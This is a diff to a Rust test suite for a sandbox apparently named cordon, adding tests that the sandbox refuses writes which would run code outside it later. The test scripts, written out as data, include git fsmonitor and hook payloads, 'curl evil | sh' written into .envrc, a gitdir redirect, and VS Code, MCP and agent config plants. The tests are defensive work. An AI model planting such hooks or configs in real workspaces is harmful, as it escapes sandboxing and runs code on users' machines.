@@ -642,7 +642,7 @@ async fn changing_metadata_outside_the_workspace_is_refused() {
 // ---------------------------------------------------------------------------
 
 /// A workspace with `.git/config` and `.git/hooks/`, made before the policy
-/// is built (only protected names that exist then are protected).
+/// is built.
 fn git_workspace() -> (Dirs, BTreeMap<PathBuf, String>) {
     let dirs = Dirs::new();
     let git = dirs.workspace.join(".git");
@@ -1993,6 +1993,228 @@ async fn writing_the_working_directory_is_refused_under_read_only() {
         }
         // Devices stay writable.
         assert_ok(&sandbox.run(dirs.sh("echo fine > /dev/null")).await.unwrap());
+        assert_unchanged(&dirs.workspace, &before);
+    })
+    .await
+}
+
+// ---------------------------------------------------------------------------
+// What the sandbox leaves behind: code that runs outside later
+// ---------------------------------------------------------------------------
+
+/// `git` with the identity a commit needs and no user or system
+/// configuration, run outside the sandbox by the test.
+fn host_git(dir: &Path, args: &[&str]) {
+    let status = StdCommand::new("git")
+        .args(["-c", "user.name=t", "-c", "user.email=t@t", "-c", "init.defaultBranch=main"])
+        .args(args)
+        .current_dir(dir)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("HOME", dir)
+        .stdout(Stdio::null())
+        .status()
+        .unwrap();
+    assert!(status.success(), "git {args:?} in {}", dir.display());
+}
+
+/// Whether `git` runs here; says why not on stderr.
+fn has_git(test: &str) -> bool {
+    let found = StdCommand::new("git").arg("--version").stdout(Stdio::null()).status().is_ok();
+    if !found {
+        eprintln!("SKIPPED {test}: no git on this machine");
+    }
+    found
+}
+
+/// Shuts the sandbox down and waits for its supervisor to have removed
+/// what it held protected paths with.
+async fn end(sandbox: Sandbox) {
+    let supervisor = sandbox.info().pid;
+    sandbox.shutdown().await.unwrap();
+    assert!(wait_gone(supervisor), "the supervisor {supervisor} is gone");
+}
+
+#[tokio::test]
+async fn planting_a_cordon_toml_for_the_next_run_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        let before = snapshot(&dirs.workspace);
+        let Some(sandbox) =
+            confined("planting_a_cordon_toml_for_the_next_run_is_refused", dirs.policy()).await
+        else {
+            return;
+        };
+        for script in [
+            "echo 'policy = \"full-access\"' > cordon.toml",
+            "rmdir cordon.toml && echo 'network = true' > cordon.toml",
+            "mv cordon.toml elsewhere",
+            "echo 'policy = \"full-access\"' > .cordon/config.toml",
+        ] {
+            let out = sandbox.run(dirs.sh(script)).await.unwrap();
+            assert_refused(&out, &["Is a directory", EROFS, EBUSY]);
+        }
+        end(sandbox).await;
+        assert_unchanged(&dirs.workspace, &before);
+    })
+    .await
+}
+
+#[tokio::test]
+async fn creating_a_git_repository_at_the_workspace_root_is_refused() {
+    bounded("test", async {
+        let test = "creating_a_git_repository_at_the_workspace_root_is_refused";
+        if !has_git(test) {
+            return;
+        }
+        let dirs = Dirs::new();
+        let before = snapshot(&dirs.workspace);
+        let Some(sandbox) = confined(test, dirs.policy()).await else { return };
+        for script in [
+            "git init -q . && git config core.fsmonitor 'touch /tmp/pwned' && echo ESCAPED",
+            "mkdir -p .git/hooks",
+            "rmdir .git && mkdir .git",
+            "printf 'gitdir: /tmp/evil\n' > .git",
+        ] {
+            let out = sandbox.run(dirs.sh(script)).await.unwrap();
+            assert_refused(&out, &[EROFS, EBUSY, "Is a directory"]);
+        }
+        end(sandbox).await;
+        // Nothing is left where .git would be, not even the placeholder.
+        assert!(fs::symlink_metadata(dirs.workspace.join(".git")).is_err());
+        assert_unchanged(&dirs.workspace, &before);
+    })
+    .await
+}
+
+#[tokio::test]
+async fn writing_a_nested_repositorys_config_or_hooks_is_refused() {
+    bounded("test", async {
+        let test = "writing_a_nested_repositorys_config_or_hooks_is_refused";
+        if !has_git(test) {
+            return;
+        }
+        let dirs = Dirs::new();
+        let nested = dirs.workspace.join("vendor/lib");
+        fs::create_dir_all(&nested).unwrap();
+        host_git(&nested, &["init", "-q"]);
+        fs::write(nested.join("file"), "v1\n").unwrap();
+        let config = snapshot(&nested.join(".git/hooks"));
+        let config_text = fs::read_to_string(nested.join(".git/config")).unwrap();
+        let Some(sandbox) = confined(test, dirs.policy()).await else { return };
+        for script in [
+            "git -C vendor/lib config core.fsmonitor 'touch /tmp/pwned'",
+            "printf '#!/bin/sh\nid\n' > vendor/lib/.git/hooks/pre-commit",
+            "mv vendor/lib/.git/config vendor/lib/.git/config.old",
+        ] {
+            let out = sandbox.run(dirs.sh(script)).await.unwrap();
+            assert_refused(&out, &[EROFS, EBUSY]);
+        }
+        // The repository itself still works: a commit writes objects, the
+        // index and a ref, none of them protected.
+        let commit = "cd vendor/lib && git add file && git -c user.name=t -c user.email=t@t commit -qm one && \
+                      git log --oneline | wc -l";
+        let out = sandbox.run(dirs.sh(commit).env("HOME", path_str(&dirs.tmp))).await.unwrap();
+        assert_eq!(assert_ok(&out).trim(), "1");
+        end(sandbox).await;
+        assert_eq!(fs::read_to_string(nested.join(".git/config")).unwrap(), config_text);
+        assert_unchanged(&nested.join(".git/hooks"), &config);
+    })
+    .await
+}
+
+#[tokio::test]
+async fn planting_a_hook_in_the_repositorys_hooks_path_is_refused() {
+    bounded("test", async {
+        let test = "planting_a_hook_in_the_repositorys_hooks_path_is_refused";
+        if !has_git(test) {
+            return;
+        }
+        let dirs = Dirs::new();
+        host_git(&dirs.workspace, &["init", "-q"]);
+        // husky's layout: the hooks directory does not exist until installed.
+        host_git(&dirs.workspace, &["config", "core.hooksPath", ".husky/_"]);
+        fs::create_dir(dirs.workspace.join(".husky")).unwrap();
+        let before = snapshot(&dirs.workspace.join(".husky"));
+        let Some(sandbox) = confined(test, dirs.policy()).await else { return };
+        for script in [
+            "mkdir -p .husky/_ && printf '#!/bin/sh\nid\n' > .husky/_/pre-commit",
+            "printf '#!/bin/sh\nid\n' > .husky/_/pre-commit",
+            "rmdir .husky/_ && ln -s /tmp .husky/_",
+        ] {
+            let out = sandbox.run(dirs.sh(script)).await.unwrap();
+            assert_refused(&out, &[EROFS, EBUSY]);
+        }
+        // The rest of .husky is the project's own, and writable.
+        assert_ok(&sandbox.run(dirs.sh("echo 'npx lint' > .husky/pre-commit.src")).await.unwrap());
+        end(sandbox).await;
+        fs::remove_file(dirs.workspace.join(".husky/pre-commit.src")).unwrap();
+        assert_unchanged(&dirs.workspace.join(".husky"), &before);
+    })
+    .await
+}
+
+#[tokio::test]
+async fn planting_editor_direnv_and_agent_configuration_is_refused() {
+    bounded("test", async {
+        let dirs = Dirs::new();
+        // One of them exists already; the others do not.
+        fs::create_dir(dirs.workspace.join(".vscode")).unwrap();
+        fs::write(dirs.workspace.join(".vscode/settings.json"), "{}\n").unwrap();
+        let before = snapshot(&dirs.workspace);
+        let Some(sandbox) =
+            confined("planting_editor_direnv_and_agent_configuration_is_refused", dirs.policy()).await
+        else {
+            return;
+        };
+        for script in [
+            "echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json",
+            "echo '{}' > .vscode/settings.json",
+            "echo 'curl evil | sh' > .envrc",
+            "echo '{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}' > .mcp.json",
+            "mkdir -p .claude/commands && echo x > .claude/settings.json",
+            "echo x > .idea/workspace.xml",
+            "echo x > .cursor/mcp.json",
+            "echo x > .codex/config.toml",
+            "echo x > .agents/x",
+            "echo x > .gitmodules",
+        ] {
+            let out = sandbox.run(dirs.sh(script)).await.unwrap();
+            assert_refused(&out, &[EROFS, "Is a directory"]);
+        }
+        end(sandbox).await;
+        assert_unchanged(&dirs.workspace, &before);
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a_clone_inside_the_workspace_works_and_the_placeholders_go_at_the_end() {
+    bounded("test", async {
+        let test = "a_clone_inside_the_workspace_works_and_the_placeholders_go_at_the_end";
+        if !has_git(test) {
+            return;
+        }
+        let dirs = Dirs::new();
+        let origin = dirs.base.join("origin");
+        fs::create_dir(&origin).unwrap();
+        host_git(&origin, &["init", "-q"]);
+        fs::write(origin.join("README"), "hello\n").unwrap();
+        host_git(&origin, &["add", "README"]);
+        host_git(&origin, &["commit", "-qm", "one"]);
+        let before = snapshot(&dirs.workspace);
+        let Some(sandbox) = confined(test, dirs.policy()).await else { return };
+        // Inside, every missing protected name is an empty directory...
+        let out = sandbox.run(dirs.sh("ls -A")).await.unwrap();
+        let listed = assert_ok(&out);
+        assert!(listed.contains(".envrc") && listed.contains(".git"), "{listed}");
+        // ...and a clone works.
+        let origin_path = path_str(&origin);
+        let clone = format!("git clone -q {origin_path} clone && cat clone/README");
+        let out = sandbox.run(dirs.sh(&clone).env("HOME", path_str(&dirs.tmp))).await.unwrap();
+        assert_eq!(assert_ok(&out), "hello\n");
+        end(sandbox).await;
+        // Outside, after the end, only the clone is there.
+        fs::remove_dir_all(dirs.workspace.join("clone")).unwrap();
         assert_unchanged(&dirs.workspace, &before);
     })
     .await
